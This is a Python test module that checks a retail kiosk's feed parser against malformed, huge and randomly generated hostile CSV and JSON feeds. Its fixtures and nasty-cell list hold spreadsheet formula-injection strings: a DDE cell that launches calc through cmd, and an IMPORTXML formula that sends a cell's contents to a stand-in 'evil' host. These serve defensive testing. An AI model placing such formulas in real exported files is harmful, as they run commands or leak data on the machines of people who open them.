"""Hostile feeds: whatever HQ's server hands over, the pull ends as bad rows or a rejected feed.

Three layers: a corpus of small nasty files (tests/reliability/corpus/) pulled through
`SyncService.pull` with the outcome each must have; huge files generated at test time and
pulled in a fresh process that measures time and memory (tests/reliability/big_feeds.py); and
property-based tests (hypothesis) that throw random bytes and hostile cells at `parse_feed` and
at a pull, and check that nothing but FeedRejected ever escapes and that every row that gets
through is one the contract allows.
"""

from __future__ import annotations

import datetime as dt
import io
import json
import math
import subprocess
import sys
import time
from collections import Counter
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import select

from kiosk.board.periods import days_in_period, elapsed_days, period_end, period_start
from sync.errors import FeedRejected
from sync.parse.feed import parse_feed
from sync.parse.fields import (
    MAX_ABS_NUMBER,
    MAX_DATE,
    MIN_ABS_NUMBER,
    MIN_DATE,
    number_reader,
)
from sync.parse.kinds import KIND_SCHEMAS, FieldSpec
from sync.service import SyncService
from sync.spec import FEED_KINDS, FeedKind, FeedSpec
from sync.store.db import Database, open_database
from sync.store.models import Comment, Message, MetricValue
from tests.reliability.helpers import REPO, integrity

CORPUS = Path(__file__).parent / "corpus"

# Each corpus file, the kind it is pulled as, and what must come of it: ("rejected", words of
# the reason) or ("applied", rows applied, rows rejected, words of the first bad row's reason).
CORPUS_CASES: dict[str, tuple[FeedKind, tuple[object, ...]]] = {
    "image.png": ("metrics", ("rejected", "binary data")),
    "archive.zip": ("metrics", ("rejected", "binary data")),
    "document.pdf": ("metrics", ("rejected", "the header lacks the required fields")),
    "random.bin": ("metrics", ("rejected", "binary data")),
    "nul_at_start.csv": ("metrics", ("rejected", "binary data")),
    "nul_after_8k.csv": ("metrics", ("applied", 673, 1, "NUL character")),
    "invalid_utf8.csv": ("metrics", ("applied", 2, 0, "")),  # read as Windows-1252
    "utf16_bom.csv": ("metrics", ("rejected", "UTF-16")),
    "utf16_no_bom.csv": ("metrics", ("rejected", "UTF-16")),
    "utf16be_no_bom.csv": ("metrics", ("rejected", "UTF-16")),
    "formulas.csv": ("comments", ("applied", 5, 0, "")),
    "formula_numbers.csv": ("metrics", ("applied", 1, 4, "'=1+1' is not a number")),
    "rtl_emoji_messages.json": ("messages", ("applied", 3, 0, "")),
    "control_chars_comments.csv": ("comments", ("applied", 2, 0, "")),
    "emoji_store_and_metric.csv": ("metrics", ("applied", 2, 0, "")),
    "dates_extreme.csv": ("metrics", ("applied", 3, 6, "0001-01-01 is out of range")),
    "targets_extreme.csv": ("targets", ("applied", 4, 3, "9999-12-27 is out of range")),
    "messages_forever.csv": ("messages", ("applied", 3, 1, "0001-01-01 is out of range")),
    "numbers_weird.csv": ("metrics", ("applied", 10, 16, "'1e309' is not a finite number")),
    "numbers_weird.json": ("metrics", ("applied", 5, 11, "not a finite number")),
    "json_duplicate_keys.json": ("metrics", ("applied", 1, 0, "")),  # last key wins, as in JSON
    "json_same_field_twice.json": ("metrics", ("rejected", "both mean store_id")),
    "json_not_records.json": ("metrics", ("rejected", "neither an array of records")),
    "json_truncated.json": ("metrics", ("rejected", "not valid JSON")),
    "json_scalar.json": ("metrics", ("rejected", "neither an array of records")),
    "html_login.csv": ("metrics", ("rejected", "HTML page")),
    "xml.csv": ("metrics", ("rejected", "HTML page")),
    "unclosed_quote.csv": ("metrics", ("rejected", "every one of the 1 data rows is bad")),
    "header_only.csv": ("stores", ("rejected", "no data rows")),
}


def pull_file(db: Database, path: Path, kind: FeedKind, name: str = "feed") -> object:
    service = SyncService(db, "S001", [FeedSpec(name=name, kind=kind, url=str(path))])
    try:
        return service.pull(service.feeds[0])
    finally:
        service.close()


def test_every_corpus_file_has_an_expected_outcome() -> None:
    assert sorted(p.name for p in CORPUS.iterdir() if p.name != "README.md") == sorted(CORPUS_CASES)


@pytest.mark.parametrize("name", sorted(CORPUS_CASES))
def test_corpus_file_ends_as_bad_rows_or_a_rejection(
    name: str, db: Database, tried: Counter[str]
) -> None:
    kind, expected = CORPUS_CASES[name]
    # Data a previous pull brought: a rejection must leave it alone.
    with db.write.begin() as session:
        session.add(
            MetricValue(
                store_id="S001", metric="old", day=dt.date(2026, 1, 1), value=1.0, feed="feed"
            )
        )
    started = time.monotonic()
    report = pull_file(db, CORPUS / name, kind)
    assert time.monotonic() - started < 5
    tried["corpus files"] += 1
    if expected[0] == "rejected":
        assert report.outcome == "rejected", report.line()
        assert str(expected[1]) in str(report.error)
        assert "kept the previous data" in report.line()
    else:
        _, applied, bad, first = expected
        assert report.outcome == "applied", report.line()
        assert (report.rows_applied, report.rows_rejected) == (applied, bad)
        if first:
            assert str(first) in report.rejects[0].reason
    with db.read() as session:
        assert session.get(MetricValue, ("S001", "old", dt.date(2026, 1, 1))) is not None
    assert integrity(Path(str(db.engine.url.database))) == "ok"


def test_formulas_are_stored_as_plain_text_never_evaluated(db: Database) -> None:
    pull_file(db, CORPUS / "formulas.csv", "comments")
    with db.read() as session:
        rows = session.execute(select(Comment.text, Comment.source).order_by(Comment.id)).all()
    assert [r.text for r in rows] == [
        '=HYPERLINK("http://x","y")',
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3",
        '=IMPORTXML(CONCAT("http://evil/?",A1),"//a")',
    ]
    assert [r.source for r in rows] == ["=1+1", "+source", "@x", "-", "=cmd"]


def test_right_to_left_emoji_and_control_characters_arrive_unchanged(db: Database) -> None:
    pull_file(db, CORPUS / "rtl_emoji_messages.json", "messages")
    source = json.loads((CORPUS / "rtl_emoji_messages.json").read_text(encoding="utf-8"))
    with db.read() as session:
        stored = session.execute(select(Message.title, Message.body).order_by(Message.id)).all()
    assert [(m.title, m.body) for m in stored] == [
        (r["title"], r.get("body", "")) for r in source["records"]
    ]


def test_a_forever_end_date_reads_as_open_ended(db: Database) -> None:
    pull_file(db, CORPUS / "messages_forever.csv", "messages")
    with db.read() as session:
        ends = dict(session.execute(select(Message.title, Message.end)).all())
    assert ends == {"Forever": None, "Year 3000": None, "Last day": dt.date(2999, 12, 31)}


def test_reasons_escape_control_characters(db: Database) -> None:
    report = pull_file(db, CORPUS / "nul_after_8k.csv", "metrics")
    reason = report.rejects[0].reason
    assert "\x00" not in reason and "\\x00" in reason


# --- huge feeds, in a fresh process ---------------------------------------------------------


@pytest.mark.slow
def test_huge_hostile_feeds_end_fast_in_bounded_memory(tried: Counter[str]) -> None:
    result = subprocess.run(
        [sys.executable, "-m", "tests.reliability.big_feeds"],
        cwd=REPO,
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert result.returncode == 0, result.stderr[-3000:]
    cases = [json.loads(line) for line in result.stdout.splitlines() if line.startswith("{")]
    assert len(cases) == 10, result.stdout
    print()
    for case in cases:
        print(
            f"  {case['case']:38} {case['bytes'] / 2**20:5.1f} MB  {case['seconds']:5.2f} s  "
            f"+{case['rss_growth_mb']:5.1f} MB RSS  {case['outcome']}: {case['error'][:70]}"
        )
        assert case["outcome"] == "rejected", case
        assert case["seconds"] < 8, case
        assert case["rss_growth_mb"] < 150, case
    tried["generated huge feeds"] += len(cases)


# --- property-based -------------------------------------------------------------------------


def _check_row(kind: FeedKind, row: dict[str, object]) -> None:
    """A row that got through is one the contract allows, whatever the input was."""
    for spec in KIND_SCHEMAS[kind].fields:
        value = row[spec.key]
        if value is None:
            assert not spec.required, (spec.name, row)
            continue
        if spec.type == "date":
            assert isinstance(value, dt.date) and MIN_DATE <= value <= MAX_DATE
        elif spec.type in ("number", "whole number"):
            assert isinstance(value, float | int) and not isinstance(value, bool)
            assert math.isfinite(value) and abs(value) <= MAX_ABS_NUMBER
            assert value == 0 or abs(value) >= MIN_ABS_NUMBER
            assert math.copysign(1, value) == 1 or value != 0  # never -0
            if spec.minimum is not None:
                assert spec.minimum <= value <= (spec.maximum or math.inf)
        elif spec.type == "choice":
            assert value in spec.choices
        elif spec.type == "yes/no":
            assert isinstance(value, bool)
        else:
            assert isinstance(value, str) and "\x00" not in value
            assert value == value.strip() and (value or not spec.required)


def _parse_all(body: bytes, kind: FeedKind, fmt: str | None = None) -> tuple[int, int] | str:
    """(good rows, bad rows), or the rejection's reason. Anything else raised fails the test."""
    try:
        parsed = parse_feed(io.BytesIO(body), kind, fmt=fmt, keep_rejects=50)  # type: ignore[arg-type]
        good = 0
        for batch in parsed.batches(64):
            for row in batch:
                _check_row(kind, row)
            good += len(batch)
    except FeedRejected as exc:
        assert exc.reason and "\x00" not in exc.reason
        return exc.reason
    assert parsed.row_count == good + parsed.reject_count
    for bad in parsed.rejects:
        assert bad.line >= 1 and bad.reason
    return good, parsed.reject_count


KINDS = st.sampled_from(FEED_KINDS)
FORMATS = st.sampled_from([None, "csv", "json"])


@settings(max_examples=300, deadline=None)
@given(body=st.binary(max_size=3000), kind=KINDS, fmt=FORMATS)
def test_random_bytes_never_crash_the_parser(
    body: bytes, kind: FeedKind, fmt: str | None, tried: Counter[str]
) -> None:
    tried["hypothesis examples"] += 1
    _parse_all(body, kind, fmt)


@settings(max_examples=200, deadline=None)
@given(body=st.binary(max_size=2000), kind=KINDS)
def test_random_bytes_after_a_valid_header_never_crash_the_parser(
    body: bytes,
    kind: FeedKind,
    tried: Counter[str],
) -> None:
    tried["hypothesis examples"] += 1
    header = ",".join(f.name for f in KIND_SCHEMAS[kind].fields).encode() + b"\n"
    _parse_all(header + body, kind)


# Cells that have broken real parsers, mixed with anything hypothesis invents.
NASTY_CELLS = [
    "",
    " ",
    "\x00",
    "a\x00b",
    '=HYPERLINK("http://x","y")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "\u202eevil",
    "שלום",
    "مرحبا",
    "👩🏽‍🚀🎉",
    "1e309",
    "NaN",
    "-0",
    "0x10",
    "１２３",
    "٣",
    "٣.٥",
    "inf",
    "9" * 40,
    "0.0000000001",
    "1e15",
    "1000000000000000",
    "$1,234.50",
    "87%",
    "-$5",
    "0001-01-01",
    "9999-12-31",
    "1900-01-01",
    "2999-12-31",
    "2026-11-24",
    "2026-02-29",
    "2026-11-23",
    "S001",
    "week",
    "Month",
    "yes",
    "UP",
    "recognition",
    '"',
    '""',
    "a\nb",
    "\r",
    ",",
    ";",
    "\t",
    "\ufeff",
    "x" * 300,
]
CELLS = st.one_of(st.sampled_from(NASTY_CELLS), st.text(max_size=40))


def _csv_cell(value: str) -> str:
    return '"' + value.replace('"', '""') + '"'


_TEXT = st.text(
    alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"),
    min_size=1,
    max_size=20,
).filter(str.strip)


def _valid(spec: FieldSpec) -> st.SearchStrategy[str]:
    """A cell this field accepts, so that a row is good unless a hostile cell makes it bad."""
    if spec.type == "date":
        return st.dates(min_value=MIN_DATE, max_value=MAX_DATE).map(dt.date.isoformat)
    if spec.type == "whole number":
        return st.integers(int(spec.minimum or 0), int(spec.maximum or 9)).map(str)
    if spec.type == "number":
        low, high = spec.minimum or 0, spec.maximum or 1e6
        return (
            st.floats(low, high).map(lambda x: f"{x:.2f}").filter(lambda t: low <= float(t) <= high)
        )
    if spec.type == "choice":
        return st.sampled_from(spec.choices)
    if spec.type == "yes/no":
        return st.sampled_from(["yes", "no", "Y", "0"])
    return st.one_of(st.sampled_from(["S001", "sales", "Downtown"]), _TEXT)


@st.composite
def records(draw: st.DrawFn, kind: FeedKind, hostile: st.SearchStrategy[object] | None) -> dict:
    """A record of valid values in which up to two fields hold a hostile value instead."""
    schema = KIND_SCHEMAS[kind]
    record: dict[str, object] = {spec.name: draw(_valid(spec)) for spec in schema.fields}
    if kind == "targets":  # a start that fits the period
        record["period"], record["start"] = "day", record["start"]
    if kind == "messages":
        record["end"] = ""
    names = [spec.name for spec in schema.fields]
    if hostile is None:
        return record
    for name in draw(st.lists(st.sampled_from(names), max_size=2, unique=True)):
        record[name] = draw(hostile)
    return record


@st.composite
def csv_feeds(draw: st.DrawFn) -> tuple[FeedKind, bytes]:
    kind = draw(KINDS)
    names = [f.name for f in KIND_SCHEMAS[kind].fields]
    header = draw(st.permutations(names))
    spelled = [draw(st.sampled_from([n, n.upper(), f" {n.replace('_', ' ')} "])) for n in header]
    rows = draw(st.lists(records(kind, CELLS), max_size=20))
    delimiter = draw(st.sampled_from([",", ";"]))
    end = draw(st.sampled_from(["\n", "\r\n"]))
    lines = [delimiter.join(_csv_cell(c) for c in spelled)]
    lines += [delimiter.join(_csv_cell(str(row[n])) for n in header) for row in rows]
    encoding = draw(st.sampled_from(["utf-8", "utf-8-sig"]))
    return kind, (end.join(lines) + end).encode(encoding, errors="surrogatepass")


@settings(max_examples=300, deadline=None)
@given(feed=csv_feeds())
def test_hostile_cells_in_valid_csv_are_bad_rows_or_good_rows(
    feed: tuple[FeedKind, bytes], tried: Counter[str]
) -> None:
    tried["hypothesis examples"] += 1
    kind, body = feed
    try:
        body.decode("utf-8")
    except UnicodeDecodeError:  # a lone surrogate from st.text: not a file anyone can write
        return
    outcome = _parse_all(body, kind, "csv")
    if isinstance(outcome, str):
        # Only whole-feed reasons: rows of hostile cells are bad rows, not a rejection...
        assert any(
            words in outcome
            for words in ("every one of the", "no data rows", "cannot be read", "binary data")
        ), outcome


JSON_SCALARS = st.one_of(
    CELLS,
    st.none(),
    st.booleans(),
    st.integers(),
    st.floats(allow_nan=True, allow_infinity=True),
    st.sampled_from([1e308, -1.7e308, 5e-324, 1e-10, 1e15, 1e16, 10**300, -0.0]),
)
JSON_VALUES = st.recursive(
    JSON_SCALARS,
    lambda children: (
        st.lists(children, max_size=3) | st.dictionaries(st.text(max_size=5), children, max_size=3)
    ),
    max_leaves=10,
)


@st.composite
def json_feeds(draw: st.DrawFn) -> tuple[FeedKind, bytes]:
    kind = draw(KINDS)
    names = [f.name for f in KIND_SCHEMAS[kind].fields]
    rows = draw(
        st.lists(
            st.one_of(
                records(kind, JSON_VALUES),
                st.fixed_dictionaries({n: JSON_VALUES for n in names}),
                st.dictionaries(st.sampled_from([*names, "Store ID", "x"]), JSON_VALUES),
                JSON_VALUES,
            ),
            max_size=15,
        )
    )
    document: object = draw(st.sampled_from(["array", "object"]))
    document = rows if document == "array" else {"records": rows, "meta": {"n": 1}}
    return kind, json.dumps(document, ensure_ascii=draw(st.booleans())).encode(
        "utf-8", "surrogatepass"
    )


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(feed=json_feeds())
def test_hostile_json_values_are_bad_rows_or_good_rows(
    feed: tuple[FeedKind, bytes], tried: Counter[str]
) -> None:
    tried["hypothesis examples"] += 1
    kind, body = feed
    _parse_all(body, kind)


JSON_NUMBERS = st.one_of(
    st.floats(allow_nan=False, allow_infinity=False),
    st.integers(min_value=-(10**400), max_value=10**400),
    st.sampled_from([1e308, -1.7e308, 5e-324, 1e-10, 1e15, 1e16, -0.0, 0]),
)


@settings(max_examples=300, deadline=None)
@given(data=st.data(), kind=st.sampled_from(["metrics", "targets", "comments", "catalog"]))
def test_any_json_number_in_a_number_field_is_bounded_or_a_bad_row(
    data: st.DataObject,
    kind: FeedKind,
    tried: Counter[str],
) -> None:
    tried["hypothesis examples"] += 1
    numeric = [f for f in KIND_SCHEMAS[kind].fields if f.type in ("number", "whole number")]
    field = data.draw(st.sampled_from(numeric))
    record = data.draw(records(kind, None))
    record[field.name] = data.draw(JSON_NUMBERS)
    _parse_all(json.dumps([record]).encode(), kind)


@settings(max_examples=500, deadline=None)
@given(text=st.one_of(st.sampled_from(NASTY_CELLS), st.text(max_size=45)), comma=st.booleans())
def test_a_number_is_ascii_finite_and_bounded_or_a_bad_row(
    text: str, comma: bool, tried: Counter[str]
) -> None:
    tried["hypothesis examples"] += 1
    read = number_reader("value", decimal="," if comma else ".", required=True)
    try:
        value = read(text)
    except ValueError:  # FieldError
        return
    assert isinstance(value, float) and math.isfinite(value)
    assert abs(value) <= MAX_ABS_NUMBER and (value == 0 or abs(value) >= MIN_ABS_NUMBER)
    # float() takes Arabic-Indic and full-width digits; the feed contract does not.
    assert all(c.isascii() for c in text if c.isdigit())


@settings(max_examples=300, deadline=None)
@given(day=st.dates(min_value=MIN_DATE, max_value=MAX_DATE))
def test_period_maths_holds_on_every_date_a_feed_can_bring(
    day: dt.date, tried: Counter[str]
) -> None:
    tried["hypothesis examples"] += 1
    for period in ("day", "week", "month"):
        start, end = period_start(period, day), period_end(period, day)
        assert start <= day <= end
        assert (end - start).days + 1 == days_in_period(period, day)
        assert 1 <= elapsed_days(period, day) <= days_in_period(period, day)


@pytest.mark.parametrize("day", [MIN_DATE, MAX_DATE, dt.date(2999, 12, 30), dt.date(1900, 1, 7)])
def test_period_maths_at_the_edges_of_the_accepted_dates(day: dt.date) -> None:
    assert period_end("week", day) >= day
    assert period_end("month", day) >= day


# --- whole pulls of generated hostile feeds -------------------------------------------------


@pytest.fixture(scope="module")
def shared_db(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Database, Path]]:
    folder = tmp_path_factory.mktemp("hostile_pulls")
    database = open_database(folder / "kiosk.db")
    yield database, folder
    database.dispose()


@settings(
    max_examples=60,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(feed=st.one_of(csv_feeds(), json_feeds()), suffix=st.sampled_from([".csv", ".json", ".txt"]))
def test_a_pull_of_anything_ends_applied_or_rejected_never_failed(
    shared_db: tuple[Database, Path],
    feed: tuple[FeedKind, bytes],
    suffix: str,
    tried: Counter[str],
) -> None:
    tried["hypothesis examples"] += 1
    db, folder = shared_db
    kind, body = feed
    path = folder / f"feed{suffix}"
    path.write_bytes(body)
    started = time.monotonic()
    report = pull_file(db, path, kind, name=f"h-{kind}")
    assert time.monotonic() - started < 5
    assert report.outcome in ("applied", "rejected"), report.line()
    assert "internal error" not in (report.error or "")
